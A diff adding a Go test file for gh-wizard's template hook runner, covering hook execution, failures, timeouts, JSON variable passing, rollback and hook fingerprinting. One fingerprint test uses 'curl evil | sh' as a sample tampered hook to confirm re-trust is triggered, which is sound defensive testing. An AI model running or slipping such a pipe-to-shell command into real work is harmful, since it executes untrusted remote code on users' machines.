@@ -0,0 +1,193 @@
+package wizard
+
+import (
+	"bytes"
+	"context"
+	"os"
+	"path/filepath"
+	"runtime"
+	"testing"
+
+	"github.com/Yuki-Sakaguchi/gh-wizard/internal/github"
+	"github.com/Yuki-Sakaguchi/gh-wizard/internal/models"
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+)
+
+func newTestHookRunner(t *testing.T) (*HookRunner, *bytes.Buffer) {
+	if runtime.GOOS == "windows" {
+		t.Skip("フックのテストは sh が必要")
+	}
+
+	var output bytes.Buffer
+	return &HookRunner{workingDir: t.TempDir(), stdout: &output, stderr: &output}, &output
+}
+
+func TestHookRunner_RunPostCreate(t *testing.T) {
+	runner, output := newTestHookRunner(t)
+
+	hooks := []models.ManifestHook{
+		{Name: "write file", Run: "echo hello > created.txt && echo done"},
+		{Name: "optional failure", Run: "exit 3"},
+		{Run: "echo after-failure"},
+	}
+
+	err := runner.RunPostCreate(context.Background(), hooks)
+	require.NoError(t, err)
+
+	// プロジェクトディレクトリ内で実行される
+	assert.FileExists(t, filepath.Join(runner.workingDir, "created.txt"))
+	// 出力はストリームされ、任意フックの失敗後も続行する
+	assert.Contains(t, output.String(), "done")
+	assert.Contains(t, output.String(), "after-failure")
+}
+
+func TestHookRunner_RequiredFailure(t *testing.T) {
+	runner, output := newTestHookRunner(t)
+
+	hooks := []models.ManifestHook{
+		{Name: "bootstrap", Run: "exit 1", Required: true},
+		{Run: "echo should-not-run"},
+	}
+
+	err := runner.RunPostCreate(context.Background(), hooks)
+	require.Error(t, err)
+	assert.Contains(t, err.Error(), "required hook 'bootstrap' failed")
+	assert.NotContains(t, output.String(), "should-not-run")
+}
+
+func TestHookRunner_Timeout(t *testing.T) {
+	runner, _ := newTestHookRunner(t)
+
+	hooks := []models.ManifestHook{
+		{Name: "slow", Run: "exec sleep 5", Timeout: "100ms", Required: true},
+	}
+
+	err := runner.RunPostCreate(context.Background(), hooks)
+	require.Error(t, err)
+	assert.Contains(t, err.Error(), "timed out after 100ms")
+}
+
+func TestHookRunner_RunPreGenerate(t *testing.T) {
+	runner, _ := newTestHookRunner(t)
+
+	manifest, err := models.ParseManifest([]byte("variables:\n  - name: port\n    type: int\n"))
+	require.NoError(t, err)
+	config := &models.ProjectConfig{
+		Name:      "billing",
+		Template:  &models.Template{FullName: "acme/go-service"},
+		Variables: map[string]interface{}{"port": 8080},
+		Manifest:  manifest,
+	}
+
+	hooks := []models.ManifestHook{
+		// 標準入力で回答の JSON を受け取る
+		{Name: "module path", Run: `grep -q '"name":"billing"' && echo '{"module": "github.com/acme/billing"}'`},
+		{Name: "port", Run: `echo '{"port": 9090}'`},
+		// 前のフックの結果が次のフックに渡される
+		{Name: "check", Run: `grep -q '"module":"github.com/acme/billing"'`},
+	}
+
+	require.NoError(t, runner.RunPreGenerate(context.Background(), hooks, config))
+	assert.Equal(t, "github.com/acme/billing", config.Variables["module"])
+	// 宣言済みの変数はマニフェストの型に変換される
+	assert.Equal(t, 9090, config.Variables["port"])
+}
+
+func TestHookRunner_RunPreGenerateErrors(t *testing.T) {
+	tests := []struct {
+		name   string
+		run    string
+		errMsg string
+	}{
+		{name: "rejected", run: "echo 'namespace billing already exists' >&2; exit 1", errMsg: "namespace billing already exists"},
+		{name: "invalid json", run: "echo not-json", errMsg: "printed invalid JSON"},
+		{name: "invalid variable", run: `echo '{"port": "http"}'`, errMsg: "returned invalid variables"},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			runner, _ := newTestHookRunner(t)
+			manifest, err := models.ParseManifest([]byte("variables:\n  - name: port\n    type: int\n"))
+			require.NoError(t, err)
+			config := &models.ProjectConfig{Name: "billing", Manifest: manifest}
+
+			err = runner.RunPreGenerate(context.Background(), []models.ManifestHook{{Name: tt.name, Run: tt.run}}, config)
+			require.Error(t, err)
+			assert.Contains(t, err.Error(), tt.errMsg)
+
+			var wizardErr *models.WizardError
+			require.ErrorAs(t, err, &wizardErr)
+			assert.Equal(t, models.ErrorTypeValidation, wizardErr.Type)
+		})
+	}
+}
+
+func TestHookFingerprint(t *testing.T) {
+	hooks := models.ManifestHooks{PostCreate: []models.ManifestHook{{Name: "install", Run: "npm install"}}}
+
+	assert.Equal(t, HookFingerprint(hooks), HookFingerprint(models.ManifestHooks{PostCreate: []models.ManifestHook{{Name: "renamed", Run: "npm install"}}}))
+	assert.NotEqual(t, HookFingerprint(hooks), HookFingerprint(models.ManifestHooks{PostCreate: []models.ManifestHook{{Run: "npm install && curl evil | sh"}}}))
+
+	// 同じコマンドでも実行する段階が変われば信頼し直す
+	assert.NotEqual(t, HookFingerprint(hooks), HookFingerprint(models.ManifestHooks{PreGenerate: []models.ManifestHook{{Run: "npm install"}}}))
+}
+
+func TestProjectExecutor_RequiredHookRollsBack(t *testing.T) {
+	if runtime.GOOS == "windows" {
+		t.Skip("フックのテストは sh が必要")
+	}
+
+	tempDir := t.TempDir()
+	projectPath := filepath.Join(tempDir, "hooked")
+
+	config := &models.ProjectConfig{
+		Name:      "hooked",
+		LocalPath: projectPath,
+		Manifest: &models.TemplateManifest{
+			Hooks: models.ManifestHooks{
+				PostCreate: []models.ManifestHook{{Run: "exit 1", Required: true}},
+			},
+		},
+	}
+
+	executor := NewProjectExecutor(github.NewSimpleMockClient())
+	executor.SetHooksEnabled(true)
+
+	err := executor.Execute(context.Background(), config)
+	require.Error(t, err)
+
+	_, statErr := os.Stat(projectPath)
+	assert.True(t, os.IsNotExist(statErr), "project directory should be removed")
+}
+
+func TestProjectExecutor_RunPreGenerateHooksInTemplateDir(t *testing.T) {
+	if runtime.GOOS == "windows" {
+		t.Skip("フックのテストは sh が必要")
+	}
+
+	templateDir := filepath.Join(t.TempDir(), "service")
+	writeTestFiles(t, templateDir, map[string]string{
+		"services/api/scripts/module.sh": `echo "{\"module\": \"$(basename "$PWD")\"}"`,
+	})
+
+	// 起動したディレクトリには依存しない
+	t.Chdir(t.TempDir())
+
+	config := &models.ProjectConfig{
+		Name:     "billing",
+		Template: &models.Template{Name: "api", CloneURL: templateDir, Source: models.SourceLocal, Path: "services/api"},
+		Manifest: &models.TemplateManifest{
+			Hooks: models.ManifestHooks{
+				PreGenerate: []models.ManifestHook{{Name: "module", Run: "sh ./scripts/module.sh"}},
+			},
+		},
+	}
+
+	executor := NewProjectExecutor(github.NewSimpleMockClient())
+	executor.SetHooksEnabled(true)
+	require.NoError(t, executor.RunPreGenerateHooks(context.Background(), config))
+
+	// テンプレートのディレクトリ（サブディレクトリ）で実行される
+	assert.Equal(t, "api", config.Variables["module"])
+}